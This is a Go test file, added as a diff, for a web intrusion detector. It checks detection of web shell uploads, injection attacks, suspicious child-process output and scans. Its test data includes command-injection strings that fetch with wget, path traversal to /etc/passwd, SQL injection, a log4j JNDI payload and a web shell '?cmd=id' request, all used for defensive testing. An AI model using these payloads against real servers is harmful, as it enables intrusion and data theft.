@@ -1,0 +1,117 @@
+package web_test
+
+import (
+	"strings"
+	"testing"
+
+	"telltale/detect"
+	"telltale/detect/detecttest"
+	"telltale/detect/web"
+)
+
+func TestUploads(t *testing.T) {
+	post := `03:00:00 http-request source.ip=203.0.113.6 http.request.method=POST url.original=/upload.php http.response.status_code=302` + "\n"
+	get := `03:00:10 http-request source.ip=203.0.113.6 http.request.method=GET url.original=/uploads/x.php?cmd=id http.response.status_code=200` + "\n"
+	born := "- file file.type=file file.uid=33 file.path=/var/www/html/uploads/x.php file.mtime=2024-01-02T03:00:01Z file.ctime=2024-01-02T03:00:01Z file.created=2024-01-02T03:00:01Z\n"
+	shell := `- file file.type=file file.path=/var/www/html/uploads/x.php file.content="it runs what a request carries"` + "\n"
+	for _, tc := range []struct {
+		name, events string
+		what         detect.What
+		level        detect.Level
+	}{
+		{"uploaded, born, used, a shell", post + get + born + shell, detect.WebUpload, detect.Critical},
+		{"used, but on disk no more", post + get, detect.WebUpload, detect.High},
+		{"a photo", post + strings.ReplaceAll(born, "x.php", "x.jpg"), "", 0},
+		{"the site's own form, asked for by all", `03:00:00 http-request source.ip=198.51.100.1 http.request.method=POST url.original=/upload.php http.response.status_code=302
+03:00:01 http-request source.ip=198.51.100.2 http.request.method=POST url.original=/upload.php http.response.status_code=302
+- file file.type=file file.uid=0 file.path=/var/www/html/upload.php file.created=2023-01-02T03:00:01Z`, "", 0},
+		{"a script of a package", post + get + strings.TrimSpace(born) + " file.package=wordpress\n" + shell, "", 0},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			var got []detect.Finding
+			for _, f := range detecttest.Run(t, web.New(), detecttest.Scene(), tc.events) {
+				if f.What == detect.WebUpload || f.What == detect.WebScript {
+					got = append(got, f)
+				}
+			}
+			if tc.what == "" && len(got) == 0 {
+				return
+			}
+			if len(got) != 1 || got[0].What != tc.what || got[0].Level != tc.level || got[0].Source != "203.0.113.6" {
+				t.Errorf("%+v", got)
+			}
+		})
+	}
+}
+
+func TestAnInstallationIsNoUpload(t *testing.T) {
+	var b strings.Builder
+	b.WriteString("03:00:00 http-request source.ip=198.51.100.2 http.request.method=POST url.original=/wp-admin/update.php http.response.status_code=200\n")
+	for i := range 40 {
+		b.WriteString("- file file.type=file file.uid=33 file.path=/var/www/html/wp-content/plugins/a/" + strings.Repeat("x", i+1) + ".php file.mtime=2024-01-02T03:00:01Z file.created=2024-01-02T03:00:01Z\n")
+	}
+	for _, f := range detecttest.Run(t, web.New(), detecttest.Scene(), b.String()) {
+		if f.Level >= detect.Medium {
+			t.Errorf("%+v", f)
+		}
+	}
+}
+
+func TestAttackClasses(t *testing.T) {
+	for url, want := range map[string]string{
+		"/cgi-bin/a?x=%3Bwget+http://e/x":        "command injection",
+		"/a?x=$(id)":                             "command injection",
+		"/a?x=%2524%2528id%2529":                 "command injection",
+		"/a?file=../../../../etc/passwd":         "reading files outside the site",
+		"/a?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd": "reading files outside the site",
+		"/a?id=1+union+select+1,2":               "SQL injection",
+		"/a?id=1%27+or+%271%27=%271":             "SQL injection",
+		"/?-d+allow_url_include%3d1":             "code injection",
+		"/a?x=${jndi:ldap://e/x}":                "the log4j bug (CVE-2021-44228)",
+		"/?q=rock;roll":                          "",
+		"/shop?id=1&sort=asc":                    "",
+		"/search?q=the+union+station+selected":   "",
+		"/search?q=it%27s+only+rock%27n%27roll":  "",
+		"/a;jsessionid=0123":                     "",
+		"/wiki/Cat_(animal)":                     "",
+		"/a?next=https://www.example.org/b":      "",
+		"/a?q=select+a+union+for+workers":        "",
+	} {
+		got := ""
+		for _, f := range detecttest.Run(t, web.New(), detecttest.Scene(), "03:00:00 http-request source.ip=203.0.113.6 http.request.method=GET http.response.status_code=200 \"url.original="+url+"\"") {
+			if f.What == detect.WebAttack {
+				got = f.Mechanism
+			}
+		}
+		if got != want {
+			t.Errorf("%s: %q, want %q", url, got, want)
+		}
+	}
+}
+
+func TestChildren(t *testing.T) {
+	for said, want := range map[string]bool{
+		"wget: unable to resolve host address 'evil.example'": true,
+		"--2024-01-02 03:04:09--  http://203.0.113.99/x":      true,
+		"sh: 1: curl: not found":                              true,
+		"AH01215: sh: wget: command not found":                true,
+		"sh: 1: /usr/sbin/sendmail: not found":                false,
+		"convert: no decode delegate for this image format":   false,
+		"[mpegts @ 0x5581] a line of ffmpeg":                  false,
+	} {
+		got := false
+		for _, f := range detecttest.Run(t, web.New(), detecttest.Scene(), `03:00:00 child-output "message=`+said+`"`) {
+			got = got || f.What == detect.WebExecution && f.Level >= detect.High
+		}
+		if got != want {
+			t.Errorf("%q: %v, want %v", said, got, want)
+		}
+	}
+}
+
+func TestScans(t *testing.T) {
+	got := detecttest.Of(detecttest.Run(t, web.New(), detecttest.Scene(), "03:00:00 http-request source.ip=203.0.113.6 http.request.method=GET url.original=/nope http.response.status_code=404 x30\n03:00:00 http-request source.ip=198.51.100.2 http.request.method=GET url.original=/ http.response.status_code=200 x30"), detect.WebScan)
+	if len(got) != 1 || got[0].Source != "203.0.113.6" || got[0].Count != 30 {
+		t.Errorf("%+v", got)
+	}
+}
